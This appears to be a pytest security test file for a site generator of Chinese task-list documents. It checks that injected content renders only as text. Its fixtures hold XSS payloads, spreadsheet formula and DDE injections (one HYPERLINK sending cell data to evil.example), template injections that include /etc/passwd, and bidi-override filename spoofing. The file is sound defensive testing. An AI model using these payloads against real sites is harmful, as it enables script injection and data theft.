"""Content made to harm, added and published as any other: on the site it is text."""

from __future__ import annotations

import csv
import json
import shutil
from collections.abc import Iterator
from urllib.parse import quote

import openpyxl
import polib
import pytest
from conftest import ROOT, serve
from playwright.sync_api import Browser, BrowserContext, Page

from jiebang.cli import main
from jiebang.corpus import load_corpus
from jiebang.datasets import write_datasets
from jiebang.layout import Layout
from jiebang.site.editions import build_site

ID = "hostile-2024"
BIDI = "\u202etxt.exe\u202c\u200b\u2066"
TITLE = "2024年任务榜单<script>window.HIT=1</script>"
# In an indicator, a kind of injection each.
INDICATORS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点")≥3个',
    "+cmd|' /C calc'!A0≥5个",
    "-1+1≥7个",
    "@SUM(1+1)≥9个",
    f"零宽{BIDI}≥11个",
    "</textarea></title></script><svg/onload=window.HIT=1>≥2个",
    '机器人" onmouseover="window.HIT=1" x="≥4个',
    "[点这里](javascript:window.HIT=1)≥6个",
    '说明{: onclick="window.HIT=1" }≥8个',
    '{{ 7*7 }}{% include "/etc/passwd" %}≥10个',
    "--8<-- /etc/passwd≥12个",
    "&ltimg src=x onerror=window.HIT=1&gt≥13个",
)
TEXT = f"""附件3
{TITLE}
项目一：机器人<img src=x onerror=window.HIT=1>及应用
1.揭榜任务：研究机器人“>{{{{ config }}}}”关键技术。<iframe src="http://evil.example/"></iframe>。
2.考核指标：{"；".join(INDICATORS)}。
3.实施周期：不超过3年。
"""
ENGLISH = (
    '<img src=x onerror=window.HIT=1>English" onfocus="window.HIT=1" autofocus x="'
    " [link](javascript:window.HIT=1) {{ 7*7 }} {: onclick=window.HIT=1 } <b>bold</b>"
)
NOTE = '<script src="http://evil.example/x.js"></script><a href="javascript:window.HIT=1">note</a>'
TERM = f"""- id: robot
  zh: 机器人
  en: '<script>window.HIT=1</script>robot'
  definition: '<img src=x onerror=window.HIT=1> {{{{ 7*7 }}}} [a](javascript:window.HIT=1)'
  domain: '"><svg/onload=window.HIT=1>'
  source: 'javascript:window.HIT=1'
  note: '<style>body{{display:none}}</style>{BIDI}'
"""


@pytest.fixture(scope="module")
def layout(tmp_path_factory: pytest.TempPathFactory) -> Layout:
    """A project of this one document, added and translated by its usual doors, and built."""
    root = tmp_path_factory.mktemp("hostile")
    for name in ("docs", "glossary"):
        shutil.copytree(ROOT / name, root / name)
    shutil.copy(ROOT / "mkdocs.yml", root)
    (root / "content").mkdir()
    (root / "scripts").symlink_to(ROOT / "scripts")
    layout = Layout(root)
    layout.terms_yml.write_text(TERM, "utf-8")
    given = root / "given.txt"
    given.write_text(TEXT, "utf-8")
    title = ["--title", TITLE, "--title-en", ENGLISH, "--issuer", "<b>某厅</b>"]
    command = ["add", "--root", str(root), str(given), "--id", ID, *title]
    assert main([*command, "--url", "javascript:window.HIT=1"]) == 0
    path = layout.catalogue(ID)
    po = polib.pofile(str(path), wrapwidth=0)
    for entry in po:
        entry.msgstr, entry.tcomment = ENGLISH, NOTE
    po.save(str(path))
    corpus = load_corpus(layout)
    assert not corpus.entries[0].lost and len(corpus.entries[0].tasks) == 1
    write_datasets(corpus, layout)
    build_site(corpus, layout)
    return layout


@pytest.fixture(scope="module")
def site(layout: Layout) -> Iterator[str]:
    yield from serve(layout.site)


@pytest.fixture(scope="module")
def seen() -> list[str]:
    """What the browser noticed that should not be."""
    return []


@pytest.fixture(scope="module")
def context(browser: Browser, site: str, seen: list[str]) -> Iterator[BrowserContext]:
    context = browser.new_context(locale="en-US")
    context.set_default_timeout(10_000)
    context.add_init_script(
        "document.addEventListener('securitypolicyviolation', e => console.error('CSP: ' +"
        " e.violatedDirective + ' ' + e.blockedURI))"
    )

    def watch(page: Page) -> None:
        page.on("dialog", lambda dialog: (seen.append("a dialog"), dialog.dismiss()))
        page.on("pageerror", lambda error: seen.append(str(error)))
        page.on("console", lambda m: seen.append(m.text) if m.type == "error" else None)
        page.on(
            "request",
            lambda r: (
                seen.append(r.url) if not r.url.startswith((site, "data:", "blob:")) else None
            ),
        )

    context.on("page", watch)
    yield context
    context.close()


@pytest.fixture(scope="module")
def page(context: BrowserContext) -> Page:
    return context.new_page()


TASK = f"tasks/{ID}/01/"
PAGES = [
    *(f"{edition}/{place}" for edition in ("en", "zh", "zh-hant") for place in ("", TASK)),
    *(f"en/documents/{ID}/", "en/documents/", "en/tasks/"),
    *("en/glossary/", "en/data/", "en/explore/"),
    *(f"en/search/?q={quote(words)}" for words in ("机器人", "<img src=x onerror=window.HIT=1>")),
    f"zh-hant/documents/{ID}/",
]  # fmt: skip


@pytest.mark.parametrize("place", PAGES)
def test_nothing_of_it_runs(place: str, page: Page, site: str, seen: list[str]) -> None:
    page.goto(site + place, wait_until="load")
    if "search" in place:
        page.wait_for_selector("#jb-results[data-state=done]")
    assert "Content-Security-Policy" in page.content()
    # As a reader does: over everything, into everything.
    page.evaluate(
        """() => { for (const e of document.querySelectorAll('body *')) {
             e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
             e.dispatchEvent(new FocusEvent('focus')); } }"""
    )
    assert page.evaluate("window.HIT") is None
    assert page.locator("body").is_visible()
    found = page.evaluate(
        """() => [...document.querySelectorAll('*')].flatMap(e => [...e.attributes]
             .filter(a => /^on/i.test(a.name) || /^\\s*javascript:/i.test(a.value)
                          && ['href', 'src', 'action', 'formaction'].includes(a.name))
             .map(a => e.tagName + ' ' + a.name + '=' + a.value))"""
    )
    assert not found
    put_in = "main iframe, main svg[onload], main style, main script[src^=http]"
    assert page.locator(put_in).count() == 0
    assert not seen


def test_it_is_shown_as_text(page: Page, site: str) -> None:
    page.goto(f"{site}en/{TASK}")
    words = page.locator("main").inner_text()
    for text in INDICATORS:
        assert text.rpartition("≥")[0] in words, text
    assert ENGLISH in " ".join(words.split()) or ENGLISH in words
    page.goto(f"{site}en/glossary/")
    words = page.locator("main").inner_text()
    assert "<script>window.HIT=1</script>robot" in words and "{{ 7*7 }}" in words
    page.goto(f"{site}en/documents/{ID}/")
    assert "<script>window.HIT=1</script>" in page.locator("main").inner_text()


def test_marks_of_direction_stay_in_their_sentence(page: Page, site: str) -> None:
    """What follows on the page stands as if they were not there."""
    page.goto(f"{site}en/{TASK}")
    place = page.locator("#i5 [lang|=zh]").first
    assert BIDI in (place.text_content() or "")
    assert place.evaluate("e => getComputedStyle(e).unicodeBidi") in ("isolate", "plaintext")


def test_the_data_is_exact_and_no_formula(layout: Layout) -> None:
    with (layout.data / "indicators.csv").open(encoding="utf-8", newline="") as file:
        texts = [row["text_zh"] for row in csv.DictReader(file)]
    assert [t.rstrip("；。") for t in texts] == list(INDICATORS)
    rows = json.loads((layout.data / "indicators.json").read_text("utf-8"))
    assert [row["text_zh"] for row in rows] == texts
    book = openpyxl.load_workbook(layout.data / "jiebang.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    sheet = book["indicators"]
    column = next(c.column for c in next(sheet.iter_rows(max_row=1)) if c.value == "text_zh")
    ours = [row[column - 1] for row in sheet.iter_rows(min_row=2)]
    assert [str(c.value) for c in ours] == texts
    assert all(c.quotePrefix for c in ours if str(c.value)[0] in "=+-@")
    assert not any(c.hyperlink for c in cells if "evil" in str(c.value))
